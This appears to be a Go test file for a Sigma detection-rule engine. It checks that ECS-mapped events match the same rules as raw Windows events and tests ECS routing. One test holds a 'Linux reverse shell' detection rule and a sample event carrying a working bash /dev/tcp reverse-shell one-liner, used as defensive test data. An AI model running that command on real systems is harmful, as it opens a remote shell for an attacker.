package sigma

import (
	"io/fs"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/vedetta-sec/vedetta/internal/event"
	"github.com/vedetta-sec/vedetta/internal/testenv"
)

// toECS converts a flat raw Windows event the way internal/normalize does:
// EventData under winlog.event_data.*, the envelope under winlog.*, and
// the common ECS process fields.
func toECS(raw Map) *event.Event {
	f := map[string]any{}
	envelope := map[string]string{"EventID": "winlog.event_id", "Channel": "winlog.channel", "Computer": "winlog.computer_name", "Provider_Name": "winlog.provider_name"}
	for k, v := range raw {
		if e, ok := envelope[k]; ok {
			if k == "EventID" {
				v = int64(v.(float64))
			}
			f[e] = v
			continue
		}
		f["winlog.event_data."+k] = v
	}
	for sig, ecs := range map[string]string{"Image": "process.executable", "CommandLine": "process.command_line", "ParentImage": "process.parent.executable"} {
		if v, ok := raw[sig]; ok {
			f[ecs] = v
		}
	}
	if u, ok := raw["User"].(string); ok {
		_, name, _ := strings.Cut(u, `\`)
		f["user.name"] = name
	}
	return &event.Event{Fields: f}
}

// TestECSMatchesRaw runs the SigmaHQ corpus compiled with ECSFields on
// ECS versions of every regression event and requires exactly the matches
// (with ECS routing) that the raw events give (with Windows routing).
func TestECSMatchesRaw(t *testing.T) {
	root := testenv.SharedData(t, "sigma")
	raw := sigmaHQRules(t)
	ecs, err := NewRuleset(raw.Rules(), &Config{Fields: ECSFields})
	if err != nil {
		t.Fatal(err)
	}
	mr, me := raw.NewMatcher(), ecs.NewMatcher()
	n, matched := 0, 0
	filepath.WalkDir(filepath.Join(root, "regression_data"), func(p string, d fs.DirEntry, err error) error {
		if err != nil || !strings.HasSuffix(p, ".json") {
			return err
		}
		for _, ev := range readEvents(t, p) {
			want := titles(mr.Match(ev, RouteWindows(ev)))
			e := ECS{E: toECS(ev)}
			got := titles(me.Match(e, RouteECS(e)))
			if !slices.Equal(got, want) {
				t.Errorf("%s: ECS matches %v, raw %v", filepath.Base(p), got, want)
			}
			n++
			matched += len(want)
		}
		return nil
	})
	t.Logf("%d events, %d matches identical on raw and ECS", n, matched)
}

func titles(rules []*Rule) []string {
	var out []string
	for _, r := range rules {
		out = append(out, r.Title)
	}
	slices.Sort(out)
	return out
}

func TestECSOnlyFields(t *testing.T) {
	text := `title: Linux reverse shell
logsource: {product: linux, category: process_creation}
detection:
    sel:
        Image|endswith: /bash
        CommandLine|contains: /dev/tcp/
    condition: sel
`
	rules, err := Parse([]byte(text), "l.yml", nil)
	if err != nil {
		t.Fatal(err)
	}
	rs, err := NewRuleset(rules, &Config{Fields: ECSFields})
	if err != nil {
		t.Fatal(err)
	}
	ev := ECS{E: &event.Event{Fields: map[string]any{
		"host.os.type": "linux", "event.category": []string{"process"}, "event.type": []string{"start"},
		"process.executable": "/usr/bin/bash", "process.command_line": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
	}}}
	src := RouteECS(ev)
	if src.Product != "linux" || !slices.Equal(src.Categories, []string{"process_creation"}) {
		t.Fatalf("RouteECS = %+v", src)
	}
	if got := len(rs.NewMatcher().Match(ev, src)); got != 1 {
		t.Errorf("matches = %d, want 1", got)
	}
	ssh := ECS{E: &event.Event{Fields: map[string]any{"log.syslog.appname": "sshd", "process.name": "sshd"}}}
	if s := RouteECS(ssh); s.Product != "linux" || !slices.Equal(s.Services, []string{"sshd", "auth", "syslog"}) {
		t.Errorf("sshd route = %+v", s)
	}
	if got := ECSFields("Image"); !slices.Equal(got, []string{"winlog.event_data.Image", "process.executable"}) {
		t.Errorf("ECSFields(Image) = %v", got)
	}
	if got := ECSFields("source.ip"); !slices.Equal(got, []string{"source.ip"}) {
		t.Errorf("ECSFields(source.ip) = %v", got)
	}
}
